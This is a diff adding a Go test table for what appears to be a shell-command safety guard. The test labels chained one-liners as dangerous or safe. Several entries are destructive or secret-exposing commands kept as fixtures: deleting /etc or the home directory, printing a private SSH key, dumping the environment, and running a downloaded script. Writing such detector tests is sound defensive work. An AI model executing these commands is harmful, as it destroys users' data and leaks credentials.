@@ -49,6 +49,42 @@ func TestUnreadableShellIsJudgedByWhatCanBeSeen(t *testing.T) {
 	}
 }
 
+// What one command knows of another: its output, its folder, its files.
+func TestCommandsFollowEachOther(t *testing.T) {
+	for line, danger := range map[string]bool{
+		"cd .. && rm -rf shop":                                   true,
+		"cd src && rm -rf ../src":                                false,
+		"(cd ..); rm -rf shop":                                   false,
+		"D=/etc; rm -rf $D/nginx":                                true,
+		"args=(-rf /etc); rm \"${args[@]}\"":                     true,
+		"echo 'rm -rf /' > x.sh; bash x.sh":                      true,
+		"echo 'rm -rf /' > x.sh; bash y.sh":                      false,
+		"echo 'rm -rf /' > x.sh; echo ls > x.sh; sh x.sh":        false,
+		"printf 'ls\\nrm -rf ~' | bash":                          true,
+		"find / -name core | head -3 | xargs rm":                 true,
+		"find . -name '*.o' | xargs rm":                          false,
+		"env > \"$A\"; cat \"$B\"":                               false,
+		"env > a; cat a":                                         true,
+		"K=$(cat ~/.ssh/id_rsa); ssh-add - <<< \"$K\"":           false,
+		"K=$(cat ~/.ssh/id_rsa); echo \"$K\"":                    true,
+		"curl -so t.json https://x.example.org; jq . t.json":     false,
+		"curl -so t.sh https://x.example.org; sh t.sh":           true,
+		"docker exec web sh -c 'echo x > /etc/motd'":             false,
+		"ssh web.example.org 'cd /srv/a && rm -rf node_modules'": false,
+		"ssh web.example.org 'rm -rf /etc/nginx'":                true,
+		"git -C .. reset --hard":                                 true,
+		"if false; then :; else rm -rf ~; fi":                    true,
+		"for d in a /etc; do rm -r $d; done":                     true,
+		"for d in $DIRS; do rm -r $d; done":                      false,
+		"seq 3 | xargs -I% rm -r /etc/%":                         true,
+		"ls | xargs bash scripts/deploy.sh --dry-run":            false,
+	} {
+		if f, found := guard.Command(line, shop); found != danger {
+			t.Errorf("Command(%q) = %v %s, want %v", line, found, f, danger)
+		}
+	}
+}
+
 // The same words mean something else elsewhere.
 func TestPlacesDecide(t *testing.T) {
 	for _, c := range []struct {
